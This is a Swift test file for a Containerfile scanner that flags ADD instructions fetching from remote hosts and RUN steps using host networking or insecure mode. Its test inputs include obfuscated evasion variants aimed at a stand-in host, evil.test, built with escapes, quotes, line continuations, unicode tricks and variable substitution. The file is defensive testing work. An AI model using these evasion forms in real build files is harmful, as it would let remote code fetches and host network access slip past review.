import Testing

@testable import ImageLibrary

@Suite struct DetourTests {
    private func detours(_ instruction: String) throws -> [Containerfile.Detour] {
        try Containerfile(Array("FROM scratch\n\(instruction)\n".utf8), path: "C", arguments: [:]).detours
    }

    @Test(
        "what an engine would fetch by itself, or run in another network, is found",
        arguments: [
            "ADD https://evil.test/x /x", "add HTTPS://evil.test/x /x", "ADD --chown=1:1 http://evil.test/x /x",
            "ADD git@evil.test:a/b.git /x", "ADD a git://evil.test/b /x", #"ADD ["http://evil.test/x", "/x"]"#,
            #"ADD ["http:\/\/evil.test/x", "/x"]"#, #"ADD ["http\u003a//evil.test/x", "/x"]"#,
            #"ADD ht"tp:/"/evil.test/x /x"#, #"ADD http:/\/evil.test/x /x"#, "ADD ht\\\ntp://evil.test/x /x",
            "ARG U=http://evil.test/x\nADD $U /x", "ENV U=http://evil.test/x\nADD ${U} /x",
            "ADD http://\u{301}@evil.test/x /x", "ADD a /x\nADD http://evil.test/x /x",
            "RUN --network=host true", "RUN --network=$N true", "RUN --mount=type=cache,target=/c --network=host true",
            "RUN --mount=type=cache,target=/c\u{a0}--network=host true", #"RUN --net"work"=host true"#,
            "RUN \u{b}--network=host true", "RUN --network=none --network=host true", "RUN --security=insecure true",
        ])
    func found(instruction: String) throws {
        #expect(try detours(instruction).count == 1)
    }

    @Test(
        "what the steps do themselves, and files of the context, are none",
        arguments: [
            "ADD file.tar.gz /x", "ADD a b/ /x/", "COPY http://x /y", "RUN curl https://allowed.test/",
            "RUN docker build --network=host .", "RUN --network=none true", "RUN --mount=type=cache,target=/c true",
            "LABEL a=http://b", "ENV A=https://b", "CMD [\"curl\", \"http://x\"]",
        ])
    func none(instruction: String) throws {
        #expect(try detours(instruction) == [])
    }

    @Test("a detour is told with its line")
    func told() throws {
        #expect(
            try detours("RUN true\nADD  https://a.test/x /x")
                == [Containerfile.Detour(line: 3, text: "ADD https://a.test/x /x")])
    }

    @Test("triggers of images are looked at alike")
    func triggers() {
        #expect(Containerfile.isDetour(trigger: "ADD http://evil.test/x /x"))
        #expect(Containerfile.isDetour(trigger: " add $U /x"))
        #expect(!Containerfile.isDetour(trigger: "COPY . /app"))
        #expect(!Containerfile.isDetour(trigger: "RUN make"))
    }
}
